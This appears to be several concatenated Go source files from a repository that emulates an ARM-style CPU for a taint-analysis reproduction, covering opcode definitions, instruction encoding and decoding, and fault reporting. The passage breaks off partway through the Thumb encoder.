		m, okm := core.ModeFromName(ar.Mode)
		v, okv := core.VerdictFromName(ar.Verdict)
		if !okm || !okv {
			// Unknown name: the record predates a rename. Treat as a miss.
			s.opts.Cache.Evict(KindVerdict, verdictKey(fp, s.opts.Analyze))
			return core.AppReport{}, false
		}
		rep.Chain = append(rep.Chain, core.Attempt{
			Mode:   m,
			Result: core.RunResult{Verdict: v, Fault: ar.Fault.Fault()},
		})
	}
	final := &rep.Chain[len(rep.Chain)-1]
	final.Result.Thrown = rec.Thrown
	final.Result.LogLines = rec.FinalLog
	final.Result.Leaks = rec.Leaks
	final.Result.JavaInsns = rec.JavaInsns
	final.Result.NativeInsns = rec.NativeInsns
	final.Result.Surface = rec.Surface
	final.Result.JNICrossings = rec.JNICrossings
	rep.Final = *final
	return rep, true
}
