// Package arm implements the emulated 32-bit guest CPU that plays the role
// QEMU's ARM target plays in the paper: it executes the native halves of the
// synthetic apps, exposes per-instruction trace hooks (NDroid's instruction
// tracer), address hooks (the analog of TCG-insertion hooking, §V-G), and
// branch watching (the substrate of multilevel hooking, Fig. 5).
//
// The instruction set is ARM-*style* rather than bit-exact ARMv7 (see
// DESIGN.md §1): it keeps the register model (R0–R15 with SP/LR/PC), the
// AAPCS calling convention, NZCV condition flags, and — most importantly —
// exactly the instruction formats of the paper's Table V, in both a 32-bit
// ("ARM") and a 16-bit ("Thumb") encoding.
package arm

import "fmt"

// Op enumerates instruction operations shared by the ARM and Thumb encodings.
type Op uint8

// Operations. Grouped by the Table V format they belong to.
const (
	OpInvalid Op = iota

	// binary-op Rd, Rn, Rm  /  binary-op Rd, Rm, #imm
	OpADD
	OpSUB
	OpRSB
	OpADC
	OpSBC
	OpAND
	OpORR
	OpEOR
	OpBIC
	OpLSL
	OpLSR
	OpASR
	OpROR
	OpMUL
	OpSDIV
	OpUDIV

	// unary / mov forms
	OpMOV  // mov Rd, Rm  or  mov Rd, #imm
	OpMVN  // unary Rd, Rm (bitwise NOT), or mvn Rd, #imm
	OpMOVW // mov Rd, #imm16 (low half, clears high)
	OpMOVT // move #imm16 into the high half of Rd

	// compares (flag-setting only; no taint effect per Table V)
	OpCMP
	OpCMN
	OpTST
	OpTEQ

	// memory
	OpLDR
	OpLDRB
	OpLDRH
	OpSTR
	OpSTRB
	OpSTRH
	OpLDM // includes POP when Rn==SP && Writeback
	OpSTM // includes PUSH when Rn==SP && Writeback

	// control flow
	OpB
	OpBL
	OpBX
	OpBLX

	// system
	OpSVC
	OpNOP
	OpHLT

	// IEEE-754 single-precision on registers holding float32 bits
	OpFADDS
	OpFSUBS
	OpFMULS
	OpFDIVS

	// IEEE-754 double-precision on even/odd register pairs (lo in Rd, hi in Rd+1)
	OpFADDD
	OpFSUBD
	OpFMULD
	OpFDIVD

	// conversions
	OpSITOF // signed int -> float32 bits
	OpFTOSI // float32 bits -> signed int (truncate)
	OpSITOD // signed int (Rm) -> float64 pair (Rd,Rd+1)
	OpDTOSI // float64 pair (Rm,Rm+1) -> signed int

	opMax // sentinel
)

var opNames = [...]string{
	OpInvalid: "invalid",
	OpADD:     "ADD", OpSUB: "SUB", OpRSB: "RSB", OpADC: "ADC", OpSBC: "SBC",
	OpAND: "AND", OpORR: "ORR", OpEOR: "EOR", OpBIC: "BIC",
	OpLSL: "LSL", OpLSR: "LSR", OpASR: "ASR", OpROR: "ROR",
	OpMUL: "MUL", OpSDIV: "SDIV", OpUDIV: "UDIV",
	OpMOV: "MOV", OpMVN: "MVN", OpMOVW: "MOVW", OpMOVT: "MOVT",
	OpCMP: "CMP", OpCMN: "CMN", OpTST: "TST", OpTEQ: "TEQ",
	OpLDR: "LDR", OpLDRB: "LDRB", OpLDRH: "LDRH",
	OpSTR: "STR", OpSTRB: "STRB", OpSTRH: "STRH",
	OpLDM: "LDM", OpSTM: "STM",
	OpB: "B", OpBL: "BL", OpBX: "BX", OpBLX: "BLX",
	OpSVC: "SVC", OpNOP: "NOP", OpHLT: "HLT",
	OpFADDS: "FADDS", OpFSUBS: "FSUBS", OpFMULS: "FMULS", OpFDIVS: "FDIVS",
	OpFADDD: "FADDD", OpFSUBD: "FSUBD", OpFMULD: "FMULD", OpFDIVD: "FDIVD",
	OpSITOF: "SITOF", OpFTOSI: "FTOSI", OpSITOD: "SITOD", OpDTOSI: "DTOSI",
}

// String returns the canonical mnemonic.
func (o Op) String() string {
	if int(o) < len(opNames) && opNames[o] != "" {
		return opNames[o]
	}
	return fmt.Sprintf("Op(%d)", uint8(o))
}

// Cond is an ARM condition code; instructions execute only when it holds.
type Cond uint8

// Condition codes (ARM encoding order).
const (
	CondEQ Cond = iota // Z
	CondNE             // !Z
	CondCS             // C
	CondCC             // !C
	CondMI             // N
	CondPL             // !N
	CondVS             // V
	CondVC             // !V
	CondHI             // C && !Z
	CondLS             // !C || Z
	CondGE             // N == V
	CondLT             // N != V
	CondGT             // !Z && N == V
	CondLE             // Z || N != V
	CondAL             // always
)

var condNames = [...]string{"EQ", "NE", "CS", "CC", "MI", "PL", "VS", "VC", "HI", "LS", "GE", "LT", "GT", "LE", ""}

// String returns the condition suffix ("" for AL).
func (c Cond) String() string {
	if int(c) < len(condNames) {
		return condNames[c]
	}
	return fmt.Sprintf("Cond(%d)", uint8(c))
}

// Register aliases.
const (
	SP = 13
	LR = 14
	PC = 15
	// RegNone marks an unused register field in a decoded instruction.
	RegNone int8 = -1
)

// Insn is a decoded instruction. The same struct describes both ARM (Size 4)
// and Thumb (Size 2) instructions, which is what lets the taint handlers in
// the instruction tracer be shared across the two encodings, as the paper's
// Table V logic is.
type Insn struct {
	Op   Op
	Cond Cond

	Rd, Rn, Rm int8 // RegNone when absent

	// Imm is the immediate operand: the value for data-processing ops, the
	// signed byte offset for memory ops, the signed *byte* displacement
	// relative to the next instruction for B/BL, or the SVC number.
	Imm int32

	// HasImm distinguishes "op Rd, Rn, Rm" from "op Rd, Rn, #imm" when both
	// register and immediate forms exist.
	HasImm bool

	// RegOffset marks LDR/STR with a register offset ([Rn, Rm]).
	RegOffset bool

	// RegList is the bitmask for LDM/STM/PUSH/POP.
	RegList uint16

	// Writeback applies to LDM/STM (update Rn after transfer).
	Writeback bool

	// SetFlags marks the S suffix on data-processing instructions.
	SetFlags bool

	// Size is the encoded size in bytes: 4 for ARM, 2 for Thumb (4 for the
	// Thumb BL pair).
	Size uint32
}

// WriteRegs returns the bitmask of general registers the instruction can
// write (architecturally, ignoring the condition code). Flags are not
// included: callers that care about NZCV must save them separately. The mask
// is the substrate of the fused-bridge clobber-set save — a union over a
// program's instructions bounds what any execution of it can touch.
func (i Insn) WriteRegs() uint32 {
	var m uint32
	switch i.Op {
	case OpADD, OpSUB, OpRSB, OpADC, OpSBC, OpAND, OpORR, OpEOR, OpBIC,
		OpLSL, OpLSR, OpASR, OpROR, OpMUL, OpSDIV, OpUDIV,
		OpMOV, OpMVN, OpMOVW, OpMOVT,
		OpLDR, OpLDRB, OpLDRH,
		OpSITOF, OpFTOSI, OpDTOSI,
		OpFADDS, OpFSUBS, OpFMULS, OpFDIVS:
		if i.Rd != RegNone {
			m |= 1 << uint(i.Rd)
		}
	case OpFADDD, OpFSUBD, OpFMULD, OpFDIVD, OpSITOD:
		// Double-precision results land in the even/odd pair (Rd, Rd+1).
		if i.Rd != RegNone {
			m |= 1 << uint(i.Rd)
			m |= 1 << uint(i.Rd+1)
		}
	case OpLDM:
		m |= uint32(i.RegList)
		if i.Writeback && i.Rn != RegNone {
			m |= 1 << uint(i.Rn)
		}
	case OpSTM:
		if i.Writeback && i.Rn != RegNone {
			m |= 1 << uint(i.Rn)
		}
	case OpBL, OpBLX:
		m |= 1 << LR
	}
	// CMP/CMN/TST/TEQ, STR/STRB/STRH, B, BX, SVC, NOP, HLT write no GPRs.
	return m
}

// IsBranch reports whether the instruction can redirect control flow.
func (i Insn) IsBranch() bool {
	switch i.Op {
	case OpB, OpBL, OpBX, OpBLX:
		return true
	case OpLDM:
		return i.RegList&(1<<PC) != 0
	}
	return false
}

// IsCall reports whether the instruction is a call (sets LR).
func (i Insn) IsCall() bool { return i.Op == OpBL || i.Op == OpBLX }
