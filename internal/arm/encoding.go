package arm

import "fmt"

// 32-bit ("ARM") encoding
//
//	[31:28] cond   [27:24] class   rest per class:
//
//	class 0  DP reg      op[23:20] Rd[19:16] Rn[15:12] Rm[11:8] S[7]
//	class 1  DP imm      op[23:20] Rd[19:16] Rn[15:12] imm12[11:0]
//	class 2  MOV/MVN reg op[23:20] Rd[19:16] Rm[11:8] S[7]
//	class 3  MOVW/MOVT   Rd[23:20] T[16] imm16[15:0]
//	class 4  LDR/STR     L[23] sz[22:21] RO[20] Rd[19:16] Rn[15:12] Rm[11:8]|simm12[11:0]
//	class 5  LDM/STM     L[23] W[22] Rn[19:16] reglist[15:0]
//	class 6  B/BL        L[23] simm23[22:0] (words, relative to next insn)
//	class 7  BX/BLX      L[23] Rm[11:8]
//	class 8  CMP family  op[23:20] I[19] Rn[15:12] Rm[11:8]|imm12[11:0]
//	class 9  MUL/DIV     op[23:20] Rd[19:16] Rn[15:12] Rm[11:8]
//	class 10 SVC         imm24[23:0]
//	class 11 misc        op[23:20]: 0 NOP, 1 HLT
//	class 12 FP32        op[23:20] Rd[19:16] Rn[15:12] Rm[11:8]
//	class 13 FP64        op[23:20] Rd[19:16] Rn[15:12] Rm[11:8] (register pairs)
//	class 14 FCVT        op[23:20] Rd[19:16] Rm[11:8]
const (
	clsDPReg  = 0
	clsDPImm  = 1
	clsMovReg = 2
	clsMovHW  = 3
	clsMem    = 4
	clsBlock  = 5
	clsBranch = 6
	clsBX     = 7
	clsCmp    = 8
	clsMulDiv = 9
	clsSVC    = 10
	clsMisc   = 11
	clsFP32   = 12
	clsFP64   = 13
	clsFCVT   = 14
)

var dpOps = []Op{OpADD, OpSUB, OpRSB, OpADC, OpSBC, OpAND, OpORR, OpEOR, OpBIC, OpLSL, OpLSR, OpASR, OpROR}

func dpIndex(op Op) (uint32, bool) {
	for i, o := range dpOps {
		if o == op {
			return uint32(i), true
		}
	}
	return 0, false
}

var cmpOps = []Op{OpCMP, OpCMN, OpTST, OpTEQ}

func cmpIndex(op Op) (uint32, bool) {
	for i, o := range cmpOps {
		if o == op {
			return uint32(i), true
		}
	}
	return 0, false
}

var mulOps = []Op{OpMUL, OpSDIV, OpUDIV}
var fp32Ops = []Op{OpFADDS, OpFSUBS, OpFMULS, OpFDIVS}
var fp64Ops = []Op{OpFADDD, OpFSUBD, OpFMULD, OpFDIVD}
var fcvtOps = []Op{OpSITOF, OpFTOSI, OpSITOD, OpDTOSI}

func indexOf(ops []Op, op Op) (uint32, bool) {
	for i, o := range ops {
		if o == op {
			return uint32(i), true
		}
	}
	return 0, false
}

func reg4(r int8) uint32 { return uint32(r) & 0xf }

func boolBit(b bool, n uint) uint32 {
	if b {
		return 1 << n
	}
	return 0
}

// Encode produces the 32-bit ARM-mode encoding of insn.
func Encode(insn Insn) (uint32, error) {
	w := uint32(insn.Cond) << 28
	switch insn.Op {
	case OpADD, OpSUB, OpRSB, OpADC, OpSBC, OpAND, OpORR, OpEOR, OpBIC, OpLSL, OpLSR, OpASR, OpROR:
		idx, _ := dpIndex(insn.Op)
		if insn.HasImm {
			if insn.Imm < 0 || insn.Imm > 0xfff {
				return 0, fmt.Errorf("arm: %s immediate %d out of range [0,4095]", insn.Op, insn.Imm)
			}
			w |= clsDPImm<<24 | idx<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rn)<<12 | uint32(insn.Imm)
		} else {
			w |= clsDPReg<<24 | idx<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rn)<<12 | reg4(insn.Rm)<<8 | boolBit(insn.SetFlags, 7)
		}
	case OpMOV, OpMVN:
		opn := uint32(0)
		if insn.Op == OpMVN {
			opn = 1
		}
		if insn.HasImm {
			if insn.Imm < 0 || insn.Imm > 0xfff {
				return 0, fmt.Errorf("arm: %s immediate %d out of range [0,4095] (use MOVW/LDR=)", insn.Op, insn.Imm)
			}
			// Immediate MOV reuses the DP-imm class with Rn == Rd and a
			// dedicated op index (13 for MOV, 14 for MVN).
			w |= clsDPImm<<24 | (13+opn)<<20 | reg4(insn.Rd)<<16 | uint32(insn.Imm)
		} else {
			w |= clsMovReg<<24 | opn<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rm)<<8 | boolBit(insn.SetFlags, 7)
		}
	case OpMOVW, OpMOVT:
		if insn.Imm < 0 || insn.Imm > 0xffff {
			return 0, fmt.Errorf("arm: %s immediate %d out of range [0,65535]", insn.Op, insn.Imm)
		}
		t := uint32(0)
		if insn.Op == OpMOVT {
			t = 1
		}
		w |= clsMovHW<<24 | reg4(insn.Rd)<<20 | t<<16 | uint32(insn.Imm)
	case OpLDR, OpLDRB, OpLDRH, OpSTR, OpSTRB, OpSTRH:
		var l, sz uint32
		switch insn.Op {
		case OpLDR:
			l, sz = 1, 0
		case OpLDRB:
			l, sz = 1, 1
		case OpLDRH:
			l, sz = 1, 2
		case OpSTR:
			l, sz = 0, 0
		case OpSTRB:
			l, sz = 0, 1
		case OpSTRH:
			l, sz = 0, 2
		}
		w |= clsMem<<24 | l<<23 | sz<<21 | reg4(insn.Rd)<<16 | reg4(insn.Rn)<<12
		if insn.RegOffset {
			w |= 1<<20 | reg4(insn.Rm)<<8
		} else {
			if insn.Imm < -2048 || insn.Imm > 2047 {
				return 0, fmt.Errorf("arm: %s offset %d out of range [-2048,2047]", insn.Op, insn.Imm)
			}
			w |= uint32(insn.Imm) & 0xfff
		}
	case OpLDM, OpSTM:
		l := uint32(0)
		if insn.Op == OpLDM {
			l = 1
		}
		w |= clsBlock<<24 | l<<23 | boolBit(insn.Writeback, 22) | reg4(insn.Rn)<<16 | uint32(insn.RegList)
	case OpB, OpBL:
		l := uint32(0)
		if insn.Op == OpBL {
			l = 1
		}
		if insn.Imm%4 != 0 {
			return 0, fmt.Errorf("arm: branch offset %d not word aligned", insn.Imm)
		}
		off := insn.Imm / 4
		if off < -(1<<22) || off >= 1<<22 {
			return 0, fmt.Errorf("arm: branch offset %d out of range", insn.Imm)
		}
		w |= clsBranch<<24 | l<<23 | uint32(off)&0x7fffff
	case OpBX, OpBLX:
		l := uint32(0)
		if insn.Op == OpBLX {
			l = 1
		}
		w |= clsBX<<24 | l<<23 | reg4(insn.Rm)<<8
	case OpCMP, OpCMN, OpTST, OpTEQ:
		idx, _ := cmpIndex(insn.Op)
		w |= clsCmp<<24 | idx<<20 | reg4(insn.Rn)<<12
		if insn.HasImm {
			if insn.Imm < 0 || insn.Imm > 0xfff {
				return 0, fmt.Errorf("arm: %s immediate %d out of range [0,4095]", insn.Op, insn.Imm)
			}
			w |= 1<<19 | uint32(insn.Imm)
		} else {
			w |= reg4(insn.Rm) << 8
		}
	case OpMUL, OpSDIV, OpUDIV:
		idx, _ := indexOf(mulOps, insn.Op)
		w |= clsMulDiv<<24 | idx<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rn)<<12 | reg4(insn.Rm)<<8
	case OpSVC:
		if insn.Imm < 0 || insn.Imm > 0xffffff {
			return 0, fmt.Errorf("arm: SVC number %d out of range", insn.Imm)
		}
		w |= clsSVC<<24 | uint32(insn.Imm)
	case OpNOP:
		w |= clsMisc << 24
	case OpHLT:
		w |= clsMisc<<24 | 1<<20
	case OpFADDS, OpFSUBS, OpFMULS, OpFDIVS:
		idx, _ := indexOf(fp32Ops, insn.Op)
		w |= clsFP32<<24 | idx<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rn)<<12 | reg4(insn.Rm)<<8
	case OpFADDD, OpFSUBD, OpFMULD, OpFDIVD:
		idx, _ := indexOf(fp64Ops, insn.Op)
		w |= clsFP64<<24 | idx<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rn)<<12 | reg4(insn.Rm)<<8
	case OpSITOF, OpFTOSI, OpSITOD, OpDTOSI:
		idx, _ := indexOf(fcvtOps, insn.Op)
		w |= clsFCVT<<24 | idx<<20 | reg4(insn.Rd)<<16 | reg4(insn.Rm)<<8
	default:
		return 0, fmt.Errorf("arm: cannot encode op %s", insn.Op)
	}
	return w, nil
}

func signExtend(v uint32, bits uint) int32 {
	shift := 32 - bits
	return int32(v<<shift) >> shift
}

// Decode interprets a 32-bit ARM-mode word. Unrecognized encodings yield an
// Insn with Op == OpInvalid; the CPU raises an error when executing those.
func Decode(w uint32) Insn {
	insn := Insn{
		Cond: Cond(w >> 28),
		Rd:   RegNone, Rn: RegNone, Rm: RegNone,
		Size: 4,
	}
	cls := (w >> 24) & 0xf
	op4 := (w >> 20) & 0xf
	switch cls {
	case clsDPReg:
		if int(op4) >= len(dpOps) {
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Op = dpOps[op4]
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rn = int8((w >> 12) & 0xf)
		insn.Rm = int8((w >> 8) & 0xf)
		insn.SetFlags = w&(1<<7) != 0
	case clsDPImm:
		switch {
		case int(op4) < len(dpOps):
			insn.Op = dpOps[op4]
			insn.Rn = int8((w >> 12) & 0xf)
		case op4 == 13:
			insn.Op = OpMOV
		case op4 == 14:
			insn.Op = OpMVN
		default:
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Imm = int32(w & 0xfff)
		insn.HasImm = true
	case clsMovReg:
		if op4 == 0 {
			insn.Op = OpMOV
		} else {
			insn.Op = OpMVN
		}
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rm = int8((w >> 8) & 0xf)
		insn.SetFlags = w&(1<<7) != 0
	case clsMovHW:
		if w&(1<<16) != 0 {
			insn.Op = OpMOVT
		} else {
			insn.Op = OpMOVW
		}
		insn.Rd = int8((w >> 20) & 0xf)
		insn.Imm = int32(w & 0xffff)
		insn.HasImm = true
	case clsMem:
		l := w&(1<<23) != 0
		sz := (w >> 21) & 3
		switch {
		case l && sz == 0:
			insn.Op = OpLDR
		case l && sz == 1:
			insn.Op = OpLDRB
		case l && sz == 2:
			insn.Op = OpLDRH
		case !l && sz == 0:
			insn.Op = OpSTR
		case !l && sz == 1:
			insn.Op = OpSTRB
		case !l && sz == 2:
			insn.Op = OpSTRH
		default:
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rn = int8((w >> 12) & 0xf)
		if w&(1<<20) != 0 {
			insn.RegOffset = true
			insn.Rm = int8((w >> 8) & 0xf)
		} else {
			insn.Imm = signExtend(w&0xfff, 12)
		}
	case clsBlock:
		if w&(1<<23) != 0 {
			insn.Op = OpLDM
		} else {
			insn.Op = OpSTM
		}
		insn.Writeback = w&(1<<22) != 0
		insn.Rn = int8((w >> 16) & 0xf)
		insn.RegList = uint16(w & 0xffff)
	case clsBranch:
		if w&(1<<23) != 0 {
			insn.Op = OpBL
		} else {
			insn.Op = OpB
		}
		insn.Imm = signExtend(w&0x7fffff, 23) * 4
		insn.HasImm = true
	case clsBX:
		if w&(1<<23) != 0 {
			insn.Op = OpBLX
		} else {
			insn.Op = OpBX
		}
		insn.Rm = int8((w >> 8) & 0xf)
	case clsCmp:
		if int(op4) >= len(cmpOps) {
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Op = cmpOps[op4]
		insn.Rn = int8((w >> 12) & 0xf)
		if w&(1<<19) != 0 {
			insn.Imm = int32(w & 0xfff)
			insn.HasImm = true
		} else {
			insn.Rm = int8((w >> 8) & 0xf)
		}
	case clsMulDiv:
		if int(op4) >= len(mulOps) {
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Op = mulOps[op4]
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rn = int8((w >> 12) & 0xf)
		insn.Rm = int8((w >> 8) & 0xf)
	case clsSVC:
		insn.Op = OpSVC
		insn.Imm = int32(w & 0xffffff)
		insn.HasImm = true
	case clsMisc:
		switch op4 {
		case 0:
			insn.Op = OpNOP
		case 1:
			insn.Op = OpHLT
		default:
			return Insn{Op: OpInvalid, Size: 4}
		}
	case clsFP32:
		if int(op4) >= len(fp32Ops) {
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Op = fp32Ops[op4]
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rn = int8((w >> 12) & 0xf)
		insn.Rm = int8((w >> 8) & 0xf)
	case clsFP64:
		if int(op4) >= len(fp64Ops) {
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Op = fp64Ops[op4]
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rn = int8((w >> 12) & 0xf)
		insn.Rm = int8((w >> 8) & 0xf)
	case clsFCVT:
		if int(op4) >= len(fcvtOps) {
			return Insn{Op: OpInvalid, Size: 4}
		}
		insn.Op = fcvtOps[op4]
		insn.Rd = int8((w >> 16) & 0xf)
		insn.Rm = int8((w >> 8) & 0xf)
	default:
		return Insn{Op: OpInvalid, Size: 4}
	}
	return insn
}
