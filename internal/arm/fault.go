package arm

import "repro/internal/fault"

// SiteDispatch is the ARM engine's fault-injection site, probed once per
// dispatch iteration (per instruction on the interpreter path, per block on
// the translated path).
const SiteDispatch = "arm.dispatch"

func init() { fault.RegisterSite(SiteDispatch, "arm") }

// The guest memory is sparse (unmapped reads return zero, writes allocate),
// so a wild pointer cannot trap through the paging layer the way it would on
// hardware. Instead data accesses are checked against a guard window: the
// low page catches NULL-relative dereferences and the high window catches
// kernel-space/underflowed addresses. Every legitimate mapping the kernel
// layout hands out lives inside [guardLo, guardHi); the check is one
// unsigned compare per access.
const (
	guardLo uint32 = 0x1000
	guardHi uint32 = 0xf000_0000
)

func badAddr(a uint32) bool { return a-guardLo >= guardHi-guardLo }

// fetchFault classifies a fetch that decoded to OpInvalid: a wild branch
// into unmapped space (the zero fill of a page that was never written) is an
// UnmappedAccess; a defined-location, undefined-encoding word is UndefInsn.
func (c *CPU) fetchFault(pc uint32) error {
	if !c.Mem.Mapped(pc) || badAddr(pc) {
		return &fault.Fault{
			Kind: fault.UnmappedAccess, Layer: "arm", PC: pc, Addr: pc,
			Detail: "instruction fetch from unmapped memory",
		}
	}
	thumb := ""
	if c.Thumb {
		thumb = " (thumb)"
	}
	return &fault.Fault{
		Kind: fault.UndefInsn, Layer: "arm", PC: pc, Addr: pc,
		Detail: "undefined instruction encoding" + thumb,
	}
}

// memFault reports a data access outside the guard window.
func (c *CPU) memFault(pc, addr uint32) error {
	return &fault.Fault{
		Kind: fault.UnmappedAccess, Layer: "arm", PC: pc, Addr: addr,
		Detail: "data access outside the mapped guest window",
	}
}

// memFaultStep is memFault in translated-block step form: it materializes PC
// at the faulting instruction (the deopt contract: earlier instructions in
// the block have fully executed, the faulting one has made no state change)
// and routes the fault through the block engine's error exit.
func (c *CPU) memFaultStep(at, addr uint32) stepRes {
	c.R[PC] = at
	c.blockErr = c.memFault(at, addr)
	return stepErr
}

// undefFault reports a decoded-but-unimplemented operation.
func (c *CPU) undefFault(pc uint32, insn Insn) error {
	return &fault.Fault{
		Kind: fault.UndefInsn, Layer: "arm", PC: pc,
		Detail: "unimplemented op " + insn.Op.String(),
	}
}

// budgetFault reports watchdog exhaustion; the analyzer maps it to the
// Timeout verdict.
func (c *CPU) budgetFault(maxInsns uint64) error {
	return &fault.Fault{
		Kind: fault.BudgetExceeded, Layer: "arm", PC: c.R[PC],
		Detail: "native instruction budget exhausted",
	}
}
