package arm

import "fmt"

// 16-bit ("Thumb") encoding — a faithful subset of classic Thumb-1:
//
//	000 op2 imm5 Rm Rd            LSL/LSR/ASR Rd, Rm, #imm5
//	00011 I op1 x3 Rn Rd          ADD/SUB Rd, Rn, Rm|#imm3
//	001 op2 Rd8 imm8              MOV/CMP/ADD/SUB Rd, #imm8
//	010000 op4 Rm Rd              ALU register ops (two-operand)
//	010001 op2 H1 H2 Rm Rd        hi-register ADD/CMP/MOV, BX/BLX
//	0101 L00 Rm Rn Rd             STR/LDR Rd, [Rn, Rm]
//	0110/0111/1000 L imm5 Rn Rd   STR/LDR (word ×4), STRB/LDRB, STRH/LDRH (×2)
//	1001 L Rd8 imm8               STR/LDR Rd, [SP, #imm8*4]
//	10101 Rd8 imm8                ADD Rd, SP, #imm8*4
//	10110000 S imm7               ADD/SUB SP, #imm7*4
//	1011 x10 M rlist8             PUSH {rlist[,LR]} / POP {rlist[,PC]}
//	1101 cond simm8               B<cond> (×2); cond=1111 → SVC #imm8
//	11100 simm11                  B (×2)
//	11110 hi11 + 11111 lo11       BL pair (22-bit offset ×2)
//
// Branch displacements are relative to the next instruction (addr+size),
// consistent with the ARM-mode encoding in this package.

var thumbALUOps = []Op{OpAND, OpEOR, OpLSL, OpLSR, OpASR, OpADC, OpSBC, OpROR, OpTST, OpRSB, OpCMP, OpCMN, OpORR, OpMUL, OpBIC, OpMVN}

// EncodeThumb produces the Thumb encoding of insn as one or two halfwords.
func EncodeThumb(insn Insn) ([]uint16, error) {
	low := func(r int8) (uint16, error) {
		if r < 0 || r > 7 {
			return 0, fmt.Errorf("arm: thumb requires low register, got R%d", r)
		}
		return uint16(r), nil
	}
	switch insn.Op {
	case OpLSL, OpLSR, OpASR:
		if insn.HasImm {
			rd, err := low(insn.Rd)
			if err != nil {
				return nil, err
			}
			// Shift-immediate uses Rn as the source to keep the three-operand
			// "binary-op Rd, Rm, #imm" Table V format; Thumb calls it Rm.
			rm, err := low(insn.Rn)
			if err != nil {
				return nil, err
			}
			if insn.Imm < 0 || insn.Imm > 31 {
				return nil, fmt.Errorf("arm: thumb shift immediate %d out of range", insn.Imm)
			}
			var op2 uint16
			switch insn.Op {
			case OpLSL:
				op2 = 0
			case OpLSR:
				op2 = 1
			case OpASR:
				op2 = 2
			}
			return []uint16{op2<<11 | uint16(insn.Imm)<<6 | rm<<3 | rd}, nil
		}
		return encodeThumbALU(insn)
	case OpADD, OpSUB:
		// ADD/SUB Rd, SP adjustments.
		if insn.Rd == SP && insn.Rn == SP && insn.HasImm {
			if insn.Imm < 0 || insn.Imm > 127*4 || insn.Imm%4 != 0 {
				return nil, fmt.Errorf("arm: thumb SP adjust %d out of range/alignment", insn.Imm)
			}
			s := uint16(0)
			if insn.Op == OpSUB {
				s = 1
			}
			return []uint16{0b10110000<<8 | s<<7 | uint16(insn.Imm/4)}, nil
		}
		if insn.Op == OpADD && insn.Rn == SP && insn.HasImm {
			rd, err := low(insn.Rd)
			if err != nil {
				return nil, err
			}
			if insn.Imm < 0 || insn.Imm > 255*4 || insn.Imm%4 != 0 {
				return nil, fmt.Errorf("arm: thumb ADD Rd,SP,#%d out of range/alignment", insn.Imm)
			}
			return []uint16{0b10101<<11 | rd<<8 | uint16(insn.Imm/4)}, nil
		}
		// Two-operand immediate form: ADD/SUB Rd, #imm8 (Rn == Rd).
		if insn.HasImm && (insn.Rn == insn.Rd || insn.Rn == RegNone) && insn.Imm >= 0 && insn.Imm <= 255 {
			rd, err := low(insn.Rd)
			if err != nil {
				return nil, err
			}
			op2 := uint16(2)
			if insn.Op == OpSUB {
				op2 = 3
			}
			return []uint16{0b001<<13 | op2<<11 | rd<<8 | uint16(insn.Imm)}, nil
		}
		// Three-operand form with register or #imm3.
		rd, err := low(insn.Rd)
		if err != nil {
			return nil, err
		}
		rn, err := low(insn.Rn)
		if err != nil {
			return nil, err
		}
		op1 := uint16(0)
		if insn.Op == OpSUB {
			op1 = 1
		}
		if insn.HasImm {
			if insn.Imm < 0 || insn.Imm > 7 {
				return nil, fmt.Errorf("arm: thumb ADD/SUB #imm3 %d out of range", insn.Imm)
			}
			return []uint16{0b00011<<11 | 1<<10 | op1<<9 | uint16(insn.Imm)<<6 | rn<<3 | rd}, nil
		}
		rm, err := low(insn.Rm)
		if err != nil {
			return nil, err
		}
		return []uint16{0b00011<<11 | op1<<9 | rm<<6 | rn<<3 | rd}, nil
	case OpMOV:
		if insn.HasImm {
			rd, err := low(insn.Rd)
			if err != nil {
				return nil, err
			}
			if insn.Imm < 0 || insn.Imm > 255 {
				return nil, fmt.Errorf("arm: thumb MOV immediate %d out of range [0,255]", insn.Imm)
			}
			return []uint16{0b001<<13 | rd<<8 | uint16(insn.Imm)}, nil
		}
		// Hi-register MOV covers all 16 registers.
		h1 := uint16(insn.Rd>>3) & 1
		return []uint16{0b010001<<10 | 2<<8 | h1<<7 | uint16(insn.Rm&0xf)<<3 | uint16(insn.Rd&7)}, nil
	case OpCMP:
		if insn.HasImm {
			rn, err := low(insn.Rn)
			if err != nil {
				return nil, err
			}
			if insn.Imm < 0 || insn.Imm > 255 {
				return nil, fmt.Errorf("arm: thumb CMP immediate %d out of range [0,255]", insn.Imm)
			}
			return []uint16{0b001<<13 | 1<<11 | rn<<8 | uint16(insn.Imm)}, nil
		}
		return encodeThumbALU(insn)
	case OpAND, OpEOR, OpADC, OpSBC, OpROR, OpTST, OpRSB, OpCMN, OpORR, OpMUL, OpBIC, OpMVN:
		return encodeThumbALU(insn)
	case OpBX, OpBLX:
		l := uint16(0)
		if insn.Op == OpBLX {
			l = 1
		}
		return []uint16{0b010001<<10 | 3<<8 | l<<7 | uint16(insn.Rm&0xf)<<3}, nil
	case OpSTR, OpLDR, OpSTRB, OpLDRB, OpSTRH, OpLDRH:
		if insn.RegOffset {
			if insn.Op != OpSTR && insn.Op != OpLDR {
				return nil, fmt.Errorf("arm: thumb register-offset only for word LDR/STR")
			}
			rd, err := low(insn.Rd)
			if err != nil {
				return nil, err
			}
			rn, err := low(insn.Rn)
			if err != nil {
				return nil, err
			}
			rm, err := low(insn.Rm)
			if err != nil {
				return nil, err
			}
			l := uint16(0)
			if insn.Op == OpLDR {
				l = 1
			}
			return []uint16{0b0101<<12 | l<<11 | rm<<6 | rn<<3 | rd}, nil
		}
		if insn.Rn == SP && (insn.Op == OpSTR || insn.Op == OpLDR) {
